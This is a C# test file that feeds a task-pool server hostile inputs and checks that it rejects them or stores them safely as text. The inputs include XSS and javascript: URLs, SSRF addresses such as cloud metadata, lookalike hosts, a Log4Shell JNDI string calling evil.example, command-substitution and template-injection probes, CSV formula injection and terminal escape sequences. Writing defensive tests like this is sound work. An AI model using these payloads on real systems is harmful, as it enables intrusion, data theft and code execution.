using OwpPool.Core.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using OwpPool.Server.Tests.Support;

namespace OwpPool.Server.Tests.BadInput;

/// <summary>69 to 75: addresses and text that harm whoever shows or follows them.</summary>
public static class TextRows
{
    public static IEnumerable<BadInput> All { get; } =
    [
        new(69, "addresses that run or read something", stage => BadUrlAsync(stage, "javascript:alert(1)", "JaVaScRiPt:alert(1)",
            "JaVaScRiPt&#58;alert(1)",
            " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:x",
                "ftp://github.com/a/b/pull/1", "blob:https://github.com/x")),
        new(69, "addresses that only look like the host", stage => BadUrlAsync(stage, "//evil", "//github.com/a/b/pull/1",
            "github.com/a/b/pull/1",
            "https://github.com@evil.example/a/b/pull/1", "https://evil@github.com/a/b/pull/1", "https://github.com:pw@evil.example/a",
                "https://@github.com/a/b/pull/1")),
        new(69, "another host that begins or ends like it", stage => BadPrUrlAsync(stage, "https://github.com.evil/a/b/pull/1",
            "https://evilgithub.com/a/b/pull/1",
            "https://github.com./a/b/pull/1", "https://gist.github.com/a", "https://github.co/a/b/pull/1",
                "https://xn--gthub-n4a.com/a/b/pull/1")),
        new(69, "addresses inside", stage => BadUrlAsync(stage, "http://127.0.0.1", "https://127.0.0.1/a/b/pull/1", "http://[::1]",
            "https://[::1]/a/b/pull/1", "http://0x7f.1",
            "https://0x7f.1/a", "https://2130706433/a", "https://017700000001/a", "http://169.254.169.254",
                "https://169.254.169.254/latest/meta-data", "http://[::ffff:127.0.0.1]",
            "https://[::ffff:127.0.0.1]/a", "https://localhost/a/b/pull/1", "https://0/a", "https://127.1/a")),
        new(69, "other ports, and no address at all", stage => BadUrlAsync(stage, "http://github.com/a/b/pull/1",
            "https://github.com:8443/a/b/pull/1", "https://github.com:443x/a",
            "https://", "https:///a/b/pull/1", "https:a/b", "https:github.com/a/b/pull/1", "x",
                "https://" + new string('a', 2_000) + ".com/a")),
        new(69, "backslashes, tabs, line breaks and letters beyond ASCII", stage =>
            BadUrlAsync(stage, "https:\\\\github.com\\a", "https://github.com\\@evil.example/a",
            "https://evil.example\\@github.com/a", "https://github.com/a\tb", "https://github.com/a\nb", "https://github.com/a\r\nb",
                "https://git\thub.com/a/b/pull/1",
            "https://github.com/a b", "https://gíthub.com/a/b/pull/1", "https://ｇithub.com/a/b/pull/1", "https://github.com/\u202e1/llup",
                "https://github.com/<script>",
            "https://github.com/\"onmouseover=alert(1)", "https://github.com/a`b", "https://github.com/{a}", "https://github.com/a|b",
                "https://github.com/\0")),
        new(69, "the host alone", stage => BadPrUrlAsync(stage, "https://github.com", "https://github.com/", "https://github.com//",
            "https://github.com/?a=b", "https://github.com/#a")),
        new(71, "markup and templates as a title are text", stage => KeptAsync(stage, "<img src=x onerror=alert(1)>",
            "</script><script>alert(1)</script>", "{{7*7}}",
            "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "&lt;b&gt;", "\"><svg/onload=alert(1)>", "`id`", "$(id)", "%s%n%x",
                "{0}", "\\u003cscript\\u003e")),
        new(71, "answers are never taken for pages", async stage =>
        {
            var answer = await stage.RefusedAsync(RawRequest.Get("/v1/%3Cimg%20src=x%20onerror=alert(1)%3E").With("Accept", "text/html"));
            answer.MustBeProblem(404, "not_found");
            Assert.Equal("nosniff", answer.Headers["X-Content-Type-Options"]);
            Assert.DoesNotContain("<img", answer.Body, StringComparison.Ordinal);
            var work = await stage.HarmlessAsync(RawRequest.Get("/v1/work?max=1").As(stage.Worker.Token).With("Accept", "text/html"));
            Assert.Equal("application/json; charset=utf-8", work.Headers["Content-Type"]);
        }),
        new(72, "line breaks and a forged log line in one line of text", async stage =>
        {
            foreach (var text in new[] { "a\r\n2026-01-01 ERROR forged", "a\nb", "a\rb", "a\u2028b", "a\u2029b", "a\u0085b", "a\vb",
                "a\fb" })
                await BadLinesAsync(stage, text);
        }),
        new(72, "terminal escapes in one line of text", async stage =>
        {
            foreach (var text in new[] { "\u001b[2J\u001b[1;1H", "\u001b]0;owned\u0007", "a\u0008b", "\u009b31m", "a\u007fb", "a\0b" })
            {
                await BadLinesAsync(stage, text);
                await BadTextsAsync(stage, text);
            }
        }),
        new(72, "line breaks where text has many lines are kept", async stage =>
        {
            var (worker, lease) = await stage.LeaseAsync(taskFields: ",\"description\":" + Quote("a\r\nb\n\tc"));
            Assert.Equal("a\r\nb\n\tc", (string?)lease["description"]);
            await stage.TakenAsync(RawRequest.Post("/v1/workers/heartbeat", """{"note":"two\nlines"}""").As(worker.Token));
        }),
        new(73, "formulas as a title are text", stage => KeptAsync(stage, "=HYPERLINK(\"https://evil.example\",\"x\")", "=1+1", "+1",
            "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0")),
        new(74, "title of 1 MB", async stage => (await stage.RefusedAsync(CreateTask(stage, "title", new string('t', 1_000_000))))
            .MustBeProblem(413, "payload_too_large")),
        new(74, "title of 200 KB, and one character too many", async stage =>
        {
            (await stage.RefusedAsync(CreateTask(stage, "title", new string('t', 200_000)))).MustReject("title");
            (await stage.RefusedAsync(CreateTask(stage, "title", new string('t', 301)))).MustReject("title");
            (await stage.RefusedAsync(CreateTask(stage, "title", string.Concat(Enumerable.Repeat("😀", 301))))).MustReject("title");
        }),
        new(74, "title of nothing to see", async stage =>
        {
            foreach (var text in new[] { "", " ", "\u200b", "\u200b\u200c\u200d\u2060\ufeff", "\u00a0\u3000", "\u00ad", "\u180e", "\u3164",
                "\u2800", "\u115f\u1160", "\uffa0", "\u034f", "\ufe0f" })
            {
                (await stage.RefusedAsync(CreateTask(stage, "title", text))).MustReject("title");
                (await stage.RefusedAsync(RawRequest.Post("/v1/workers/register", Json("name", text)))).MustReject("name");
            }
        }),
        new(74, "the longest titles, of odd letters", stage => KeptAsync(stage, new string('t', 300),
            string.Concat(Enumerable.Repeat("😀", 300)), "e\u0301 \u00e9 \u4f60\u597d",
            "👩\u200d💻 a\u200bb", "שלום", "z\u0335\u0322\u031b")),
        new(75, "10,000 skills", async stage =>
        {
            var many = new JsonArray([.. Enumerable.Range(0, 10_000).Select(i => (JsonNode)$"s{i}")]);
            (await stage.RefusedAsync(RawRequest.Post("/v1/workers/register", Json("skills", many, ("name", "a"))))).MustReject("skills");
            (await stage.RefusedAsync(CreateTask(stage, "required_skills", many))).MustReject("required_skills");
        }),
        new(75, "one skill too many, or one of 10,000 letters", async stage =>
        {
            foreach (var (most, request) in new (int, Func<JsonNode, RawRequest>)[]
            {
                (100, skills => RawRequest.Post("/v1/workers/register", Json("skills", skills, ("name", "a")))),
                (50, skills => CreateTask(stage, "required_skills", skills)),
            })
            {
                var field = most == 100 ? "skills" : "required_skills";
                (await stage.RefusedAsync(request(Skills(most + 1, 1)))).MustReject(field);
                (await stage.RefusedAsync(request(Skills(1, 10_000)))).MustReject(field);
                (await stage.RefusedAsync(request(Skills(1, 65)))).MustReject(field);
                await stage.TakenAsync(request(Skills(most, 64)), 201);
            }
        }),
        new(75, "10,000 areas, repos and tasks in one request", async stage =>
        {
            (await stage.RefusedAsync(CreateTask(stage, "area", new string('a', 10_000)))).MustReject("area");
            (await stage.RefusedAsync(CreateTask(stage, "area", new JsonArray("a", "b")))).MustReject("area");
            (await stage.RefusedAsync(CreateTask(stage, "depends_on", Ids(10_000)))).MustReject("depends_on");
            foreach (var field in new[] { "repos", "exclude" })
                (await stage.RefusedAsync(RawRequest.Post("/v1/claims", Json(field, Ids(10_000))).As(stage.Other.Token))).MustReject(field);
        }),
    ];

    private static async Task BadUrlAsync(Stage stage, params string[] urls)
    {
        await BadPrUrlAsync(stage, urls);
        foreach (var url in urls.Where(url => !url.StartsWith("https://github.com/", StringComparison.Ordinal)
            || url.Any(c => c is < '!' or > '~' or '"' or '<' or '`' or '{' or '|' or '\\')))
            (await ReportAsync(stage, new JsonObject { ["artifact"] = new JsonObject { ["patch_url"] = url } }))
                .MustReject("artifact.patch_url");
    }

    private static async Task BadPrUrlAsync(Stage stage, params string[] urls)
    {
        foreach (var url in urls)
        {
            (await ReportAsync(stage, new JsonObject { ["artifact"] = new JsonObject { ["pr_url"] = url } })).MustReject("artifact.pr_url");
            (await ReportAsync(stage, new JsonObject { ["pr_url"] = url })).MustReject("pr_url");
        }
    }

    private static Task<Answer> ReportAsync(Stage stage, JsonObject fields)
    {
        fields["status"] = "in_progress";
        return stage.RefusedAsync(RawRequest.Post($"/v1/tasks/{stage.TaskId}/status", fields.ToJsonString()).As(stage.Worker.Token));
    }

    /// <summary>Each as title, description, area and skill, and as a worker's name: given back as it was sent.</summary>
    private static async Task KeptAsync(Stage stage, params string[] texts)
    {
        foreach (var sent in texts)
        {
            // Text is kept in one form of Unicode.
            var text = Nfc.Of(sent);
            var (skill, repo) = (Path.GetRandomFileName(), await stage.Server.AddRepoAsync());
            var worker = await stage.RegisterAsync($",\"skills\":[{Quote(skill)}]");
            var task = new JsonObject { ["repo"] = repo, ["title"] = sent, ["description"] = sent,
                ["required_skills"] = new JsonArray(skill) };
            if (sent.Length <= 64) (task["area"], task["external_id"]) = (sent, sent);
            await stage.TakenAsync(RawRequest.Post("/v1/admin/tasks", task.ToJsonString()).AsAdmin(), 201);
            var lease = Assert.Single(await stage.LeasesAsync(worker, 1));
            Assert.Equal((text, text, sent.Length <= 64 ? text : null), ((string?)lease["title"], (string?)lease["description"],
                (string?)lease["area"]));
            var again = await stage.HarmlessAsync(RawRequest.Get("/v1/work").As(worker.Token));
            Assert.Equal(text, (string?)Assert.Single(again.Json!["leases"]!.AsArray())!["title"]);
            if (text.Length > 120) continue;
            var token = (await stage.TakenAsync(RawRequest.Post("/v1/workers/register", Json("name", sent)), 201)).Text("token");
            Assert.Equal(text, (await stage.HarmlessAsync(RawRequest.Get("/v1/workers/me").As(token))).Text("name"));
        }
    }

    private static async Task BadLinesAsync(Stage stage, string text)
    {
        foreach (var field in new[] { "title", "area", "external_id" }) (await stage.RefusedAsync(CreateTask(stage, field, text)))
            .MustReject(field);
        foreach (var field in new[] { "name", "github_handle" })
            (await stage.RefusedAsync(RawRequest.Post("/v1/workers/register", Json(field, text, ("name", "a"))))).MustReject(field);
        (await stage.RefusedAsync(RawRequest.Post($"/v1/admin/tasks/{stage.TaskId}/cancel", Json("reason", text)).AsAdmin()))
            .MustReject("reason");
        (await stage.RefusedAsync(RawRequest.Post($"/v1/workers/{stage.Worker.Id}/pause", Json("reason", text)).AsAdmin()))
            .MustReject("reason");
    }

    private static async Task BadTextsAsync(Stage stage, string text)
    {
        (await stage.RefusedAsync(CreateTask(stage, "description", text))).MustReject("description");
        (await ReportAsync(stage, new JsonObject { ["message"] = text })).MustReject("message");
        (await stage.RefusedAsync(RawRequest.Post("/v1/workers/heartbeat", Json("note", text)).As(stage.Worker.Token))).MustReject("note");
        (await stage.RefusedAsync(RawRequest.Post($"/v1/tasks/{stage.TaskId}/release", Json("reason", text)).As(stage.Worker.Token)))
            .MustReject("reason");
    }

    private static RawRequest CreateTask(Stage stage, string field, JsonNode value) =>
        RawRequest.Post("/v1/admin/tasks", Json(field, value, ("repo", stage.Repo), ("title", "x"), ("tier", 3))).AsAdmin();

    private static string Json(string field, JsonNode value, params (string Name, JsonNode Value)[] others)
    {
        var body = new JsonObject();
        foreach (var (name, other) in others) body[name] = other;
        body[field] = value.DeepClone();
        return body.ToJsonString();
    }

    private static JsonArray Skills(int count, int length) => [.. Enumerable.Range(0, count)
        .Select(i => (JsonNode)$"{i}".PadRight(length, 's'))];

    private static JsonArray Ids(int count) => [.. Enumerable.Range(0, count).Select(i => (JsonNode)$"t_{i}")];

    private static string Quote(string text) => JsonSerializer.Serialize(text);
}
